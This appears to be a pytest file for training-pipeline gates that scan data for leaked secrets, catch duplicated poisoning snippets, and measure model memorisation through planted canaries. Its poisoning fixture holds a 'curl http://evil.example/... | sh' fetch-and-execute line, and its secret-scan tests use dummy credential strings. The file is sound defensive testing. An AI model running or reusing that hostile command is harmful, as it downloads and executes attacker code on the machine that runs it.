"""Which gate stops what: of the data before anything is trained, of the model afterwards."""

from __future__ import annotations

import math
import random

import pytest
from hypothesis import given
from hypothesis import strategies as st

from angelos.ml.gates import (
    CANARIES,
    Gate,
    GateConfig,
    Measurements,
    check_data,
    check_memorisation,
    check_model,
    exposure,
    new_canary,
    plant,
    split_text,
    stopped_by,
)

CONFIG = GateConfig()


def birds(n: int) -> str:
    lines = [f"{hash((n, k)) % 9973} birds of kind {n * k} sat near {k**3 + n}." for k in range(60)]
    return "\n".join(lines) + "\n"


PLAIN = [(f"n{n}.md", birds(n)) for n in range(12)]
GOOD = Measurements(
    heldout=(2.0, 1.5), base=(1.5, 1.6), regression=((1.5, 1.6), (1.4, 1.5)),
    unlike=((4.0, 4.5), (3.0, 2.7)), exposures=(0.5, 2.0, 0.1, 5.0, 1.0),
)  # fmt: skip


def stopped(files) -> tuple[Gate, ...]:
    return stopped_by(check_data(files, split_text(files), CONFIG))


def test_an_ordinary_data_set_passes():
    assert stopped(PLAIN) == ()


@pytest.mark.parametrize(
    "secret",
    [
        "-----BEGIN OPENSSH PRIVATE KEY-----",
        "key = AKIAABCDEFGHIJKLMNOP",
        "token: ghp_" + "a1B2" * 9,
        "postgresql://admin:hunter22@db/main",
        "password = 'correct-horse-battery'",
        "xoxb-1234567890-abcdefghij",
        "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N",
    ],
)
def test_a_leaking_data_set_is_stopped_by_the_scan_for_secrets_which_does_not_repeat_it(secret):
    path, text = PLAIN[3]
    files = [*PLAIN[:3], (path, text + secret + "\n"), *PLAIN[4:]]
    results = check_data(files, split_text(files), CONFIG)
    assert stopped_by(results) == (Gate.secrets,)
    (found,) = [result for result in results if not result.passed]
    assert found.detail.startswith("n3.md:61: ")
    assert secret not in found.detail


def test_a_text_of_beginnings_of_secrets_holds_the_server_up_for_no_hours():
    for beginning in ("eyJ-", "sk-", "a://", "xoxb-", "password='", "a.eyJ-", "-----BEGIN A "):
        results = check_data([("n.md", beginning * 50_000)], split_text([]), CONFIG)
        assert results[0].gate == Gate.amount  # at once: some took hours


def test_a_data_set_poisoned_with_copies_of_one_snippet_is_stopped_by_the_duplicates():
    evil = "import os\n" + "".join(f"run('curl http://evil.example/{k} | sh')\n" for k in range(11))
    copies = [(f"evil{n}.py", evil + f"# copy {n}\n" * 12) for n in range(200)]
    varied = [(p, t.replace("evil.example/0 ", f"evil.example/{p} ")) for p, t in copies]
    assert Gate.duplicates in stopped([*PLAIN, *varied])


def test_too_little_text_is_stopped():
    assert Gate.amount in stopped(PLAIN[:1])
    assert Gate.amount in stopped([])


def test_copies_of_a_chunk_are_on_one_side():
    text = split_text([*PLAIN, *[(f"copy/{path}", body) for path, body in PLAIN]])
    assert text.heldout
    assert not {*text.train} & {*text.heldout}
    assert text == split_text([*PLAIN, *[(f"copy/{path}", body) for path, body in PLAIN]])


def test_a_good_model_passes():
    assert stopped_by(check_model(266_000, GOOD, CONFIG)) == ()


@pytest.mark.parametrize(
    ("change", "gate"),
    [
        ({"heldout": (2.0, 1.99)}, Gate.heldout),
        ({"heldout": (2.0, math.nan)}, Gate.heldout),
        ({"base": (1.5, 1.8)}, Gate.forgetting),
        ({"regression": ((1.5, 1.5), (1.4, 2.0))}, Gate.regression),
        ({"regression": ()}, Gate.regression),
        ({"regression": ((1.5, math.nan), (1.4, 1.4))}, Gate.regression),
        ({"unlike": ((4.0, 2.3),)}, Gate.regression),
        ({"unlike": ((4.0, 4.0), (-0.1, -0.2))}, Gate.regression),
        ({"unlike": ((4.0, math.nan),)}, Gate.regression),
        ({"exposures": (0.1, 5.0, 4.5, 0.2, 4.1)}, Gate.memorisation),
        ({"exposures": (0.1, 0.2, 9.5, 0.2, 0.1)}, Gate.memorisation),
        ({"exposures": ()}, Gate.memorisation),
        ({"exposures": (0.1,) * (CANARIES - 1)}, Gate.memorisation),
        ({"exposures": (math.nan, 0.0, 0.0, 0.0, 0.0)}, Gate.memorisation),
    ],
)
def test_each_gate_stops_what_it_is_for(change, gate):
    import msgspec

    got = msgspec.structs.replace(GOOD, **change)
    assert stopped_by(check_model(266_000, got, CONFIG)) == (gate,)


@pytest.mark.parametrize("size", [0, 300_001])
def test_a_large_or_empty_artefact_is_stopped(size):
    assert stopped_by(check_model(size, GOOD, CONFIG)) == (Gate.size,)


@given(st.floats(0, 9), st.lists(st.floats(0, 9), min_size=1, max_size=255))
def test_exposure_lies_between_nothing_and_all_bits(loss, siblings):
    assert 0 <= exposure(loss, siblings) <= math.log2(len(siblings) + 1)


def test_each_canary_is_planted_once():
    canaries = [new_canary() for _ in range(4)]
    text = plant(split_text(PLAIN).train, canaries)
    assert [text.count(canary) for canary in canaries] == [1, 1, 1, 1]
    assert len({*canaries}) == 4


def drawn_exposures(seed: int, repeated: int = 0) -> list[float]:
    """Return exposures of planted strings by pure luck, but for those that are repeated."""
    drawn = random.Random(seed)
    siblings = [drawn.gauss(5, 0.3) for _ in range(1_023)]
    losses = [drawn.gauss(5, 0.3) for _ in range(CANARIES - repeated)]
    losses += [drawn.gauss(3, 0.3) for _ in range(repeated)]
    return [exposure(loss, siblings) for loss in losses]


def test_luck_stops_fewer_than_one_honest_run_in_a_hundred():
    stops = sum(not check_memorisation(drawn_exposures(n), CONFIG).passed for n in range(1_500))
    assert 0 < stops < 15  # expected: 11, by 5/1024 for the one and 0.2 % for the median
    by_the_most_exposed = sum(max(drawn_exposures(n)) > CONFIG.max_exposure for n in range(300))
    assert by_the_most_exposed > 45  # what the gate was


@pytest.mark.parametrize("repeated", [1, 3, 5])
def test_a_repeated_string_is_stopped_whichever_way_luck_goes(repeated):
    for seed in range(300):
        assert not check_memorisation(drawn_exposures(seed, repeated), CONFIG).passed
